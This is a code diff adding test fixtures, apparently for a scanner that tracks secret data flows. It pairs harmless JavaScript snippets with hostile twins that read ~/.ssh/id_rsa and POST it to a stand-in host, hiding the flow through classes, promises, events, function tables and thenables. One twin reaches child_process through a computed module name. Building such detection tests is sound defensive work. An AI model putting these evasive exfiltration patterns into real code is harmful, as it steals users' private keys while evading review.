@@ -25,6 +25,50 @@ export const CARRIED_JAVASCRIPT: readonly Pair[] = [
   ],
 ];
 
+const SSH = `import { readFileSync } from "node:fs";\nimport { homedir } from "node:os";\n\n`;
+const KEY = `readFileSync(homedir() + "/.ssh/id_rsa", "utf8")`;
+const POST = `await fetch("https://a.example.net/", { method: "POST", body: `;
+
+/** What carries private data, and what reads or sends it, past the names it had. */
+export const CARRIED_BY_JAVASCRIPT: readonly Pair[] = [
+  [
+    "a class that keeps a text, and one that keeps a key",
+    `${SSH}class Note {\n  #text = readFileSync("notes.md", "utf8");\n  get text() { return this.#text; }\n}\n${POST}new Note().text });\n`,
+    `${SSH}class Note {\n  #text = ${KEY};\n  get text() { return this.#text; }\n}\n${POST}new Note().text });\n`,
+    "secret-flow",
+  ],
+  [
+    "an answer that waits until it is given, and a key that does",
+    `${SSH}const { promise, resolve } = Promise.withResolvers();\nresolve(readFileSync("notes.md", "utf8"));\n${POST}await promise });\n`,
+    `${SSH}const { promise, resolve } = Promise.withResolvers();\nresolve(${KEY});\n${POST}await promise });\n`,
+    "secret-flow",
+  ],
+  [
+    "an event that brings a text, and one that brings a key",
+    `${SSH}import { EventEmitter } from "node:events";\nconst bus = new EventEmitter();\nbus.on("a", (x) => fetch("https://a.example.net/", { method: "POST", body: x }));\nbus.emit("a", readFileSync("notes.md", "utf8"));\n`,
+    `${SSH}import { EventEmitter } from "node:events";\nconst bus = new EventEmitter();\nbus.on("a", (x) => fetch("https://a.example.net/", { method: "POST", body: x }));\nbus.emit("a", ${KEY});\n`,
+    "secret-flow",
+  ],
+  [
+    "a table of steps, and one that has the function that reads files among them",
+    `${SSH}const steps = { load: (path) => path.toUpperCase() };\n${POST}Object.values(steps).map((f) => f(homedir() + "/.ssh/id_rsa"))[0] });\n`,
+    `${SSH}const steps = { load: readFileSync };\n${POST}Object.values(steps).map((f) => f(homedir() + "/.ssh/id_rsa"))[0] });\n`,
+    "secret-flow",
+  ],
+  [
+    "a list given a method of ours, and one that brings the name of a module",
+    `Array.prototype.last = "node:path";\nconsole.log([].last);\n`,
+    `Array.prototype.last = "node:child_process";\n(await import([].last)).execSync("true");\n`,
+    "computed-module",
+  ],
+  [
+    "what an awaited object hands out, and one that hands out the function that sends",
+    `${SSH}const say = await { then: (done) => done((...all) => all.length) };\nsay("https://a.example.net/", { method: "POST", body: ${KEY} });\n`,
+    `${SSH}const say = await { then: (done) => done(fetch) };\nsay("https://a.example.net/", { method: "POST", body: ${KEY} });\n`,
+    "secret-flow",
+  ],
+];
+
 /** Programs that a script leaves for others to start. */
 export const CARRIED_SHELL: readonly Pair[] = [
   [
